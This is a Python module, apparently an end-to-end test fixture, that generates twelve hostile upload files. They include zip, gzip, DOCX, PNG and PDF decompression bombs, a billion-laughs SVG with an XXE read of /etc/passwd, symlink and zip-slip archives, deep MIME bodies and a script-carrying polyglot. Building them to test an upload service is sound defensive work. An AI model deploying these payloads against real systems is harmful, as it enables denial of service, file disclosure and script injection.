"""Twelve files that hurt whoever unpacks, decodes, renders or believes them. Each is small enough to be uploaded."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.e2e.hammer.quine import quine

GIGABYTE = 10**9
CHUNK = bytes(1024**2)


@dataclass(frozen=True)
class Bomb:
    """`body`: a whole request body of that content type, instead of a file in a form."""

    title: str
    name: str
    content: bytes
    body: str = ""


def bombs() -> Iterator[Bomb]:
    yield Bomb("nested zip", "pictures.zip", nested())
    yield Bomb("quine zip", "self.zip", quine())
    yield Bomb("10 GB gzip", "log.txt.gz", gzipped(10 * GIGABYTE))
    yield Bomb("1 GB docx XML", "letter.docx", docx(GIGABYTE))
    yield Bomb("30,000 x 30,000 PNG", "photo.png", png(30_000))
    yield Bomb("entity bomb", "drawing.svg", LAUGHS)
    yield Bomb("PDF stream bomb", "bill.pdf", pdf(GIGABYTE))
    yield Bomb("1,000-deep MIME", "mail.eml", mime(1000), body="multipart/form-data; boundary=b0")
    yield Bomb("10,000 parts", "", parts(10_000), body="multipart/form-data; boundary=b")
    yield Bomb("symlink zip", "photos.zip", symlinks())
    yield Bomb("zip slip", "backup.zip", slip())
    yield Bomb("polyglot", "holiday.gif", POLYGLOT)


def zeros(size: int, *, wrap: int) -> bytes:
    """What deflates to so many zeros, made without deflating all of them: the same block again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wrap)
    first = packer.compress(CHUNK) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(CHUNK) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + block * (size // len(CHUNK) - 1) + packer.flush()


def packed(files: dict[str, bytes], *, change: Callable[[zipfile.ZipInfo], None] = lambda info: None) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, (2026, 11, 28, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            change(info)
            archive.writestr(info, content)
    return whole.getvalue()


def nested(levels: int = 6, each: int = 16) -> bytes:
    """16 archives in each of 16 archives, six deep, with 16 MB at the bottom: 4.5 petabytes."""
    content = packed({"0.bin": CHUNK * 16})
    for _ in range(levels):
        content = packed({f"{number}.zip": content for number in range(each)})
    return content


def gzipped(size: int) -> bytes:
    return zeros(size, wrap=31)


def docx(size: int) -> bytes:
    """A letter with a body of one gigabyte: the archive's own entry is written by hand."""
    body, name = zeros(size, wrap=-15), b"word/document.xml"
    unpacked = size // len(CHUNK) * len(CHUNK)
    facts = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, 0, len(body), unpacked, len(name), 0)
    types = packed({"[Content_Types].xml": b'<?xml version="1.0"?><Types/>'})
    kept = types[: types.index(b"PK\1\2")]
    entry = b"PK\1\2\x14\0" + facts + struct.pack("<HHHII", 0, 0, 0, 0, len(kept)) + name
    directory = types[len(kept) : types.index(b"PK\5\6")] + entry
    local = b"PK\3\4" + facts + name + body
    end = struct.pack("<HHHHIIH", 0, 0, 2, 2, len(directory), len(kept) + len(local), 0)
    return kept + local + directory + b"PK\5\6" + end


def png(side: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zeros((3 * side + 1) * side, wrap=15)) + chunk(b"IEND", b"")


def pdf(size: int) -> bytes:
    stream = zeros(size, wrap=15)
    head = b"<< /Length %d /Filter /FlateDecode >>" % len(stream)
    pages = b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
    page = b"3 0 obj << /Type /Page /Parent 2 0 R /Contents 4 0 R /MediaBox [0 0 9 9] >> endobj\n"
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    catalogue = b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction %b >> endobj\n" % action
    body = b"4 0 obj " + head + b"\nstream\n" + stream + b"\nendstream endobj\n"
    return b"%PDF-1.7\n" + catalogue + pages + page + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def mime(depth: int) -> bytes:
    opened = b"".join(
        b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (level, level + 1) for level in range(depth)
    )
    closed = b"".join(b"\r\n--b%d--\r\n" % level for level in reversed(range(depth)))
    return opened + b"--b%d\r\nContent-Type: text/plain\r\n\r\nhello" % depth + b"\r\n--b%d--\r\n" % depth + closed


def parts(count: int) -> bytes:
    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="%d.png"\r\n\r\nx\r\n'
    return b"".join(part % number for number in range(count)) + b"--b--\r\n"


def symlinks() -> bytes:
    def link(info: zipfile.ZipInfo) -> None:
        info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16

    return packed({"passwd.txt": b"/etc/passwd", "here": b"/"}, change=link)


def slip() -> bytes:
    return packed({"../../../../tmp/slipped.txt": b"was here", "C:\\windows\\slipped.txt": b"was here"})


LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE svg [\n <!ENTITY l0 "ha">\n <!ENTITY x SYSTEM "file:///etc/passwd">\n'
    + b"".join(b' <!ENTITY l%d "%s">\n' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 11))
    + b']>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>&l10;&x;</text></svg>\n'
)
# A picture to one reader, a page with a script to another, a script to a third, an archive to a fourth.
POLYGLOT = (
    b"GIF89a/*\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02L\x01\x00;*/=1;alert(document.domain)//"
    + b"<html><body><script>alert(document.domain)</script></body></html>"
    + packed({"run.js": b"alert(1)"})
)
